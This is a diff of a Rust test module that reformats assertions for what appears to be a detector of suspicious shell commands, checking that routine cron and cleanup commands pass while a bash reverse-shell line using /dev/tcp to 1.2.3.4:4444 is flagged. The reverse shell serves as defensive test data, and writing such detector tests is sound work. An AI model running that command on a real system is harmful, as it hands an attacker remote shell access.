@@ -935,12 +935,10 @@ mod tests {
             suspicions(b"cd / && run-parts --report /etc/cron.daily"),
             vec![]
         );
-        assert_eq!(
-            suspicions(b"find /tmp -type f -mtime +7 -delete"),
-            vec![]
+        assert_eq!(suspicions(b"find /tmp -type f -mtime +7 -delete"), vec![]);
+        assert!(
+            suspicions(b"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1").contains(&Suspicion::DownloadExec)
         );
-        assert!(suspicions(b"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1")
-            .contains(&Suspicion::DownloadExec));
     }
 
     #[test]
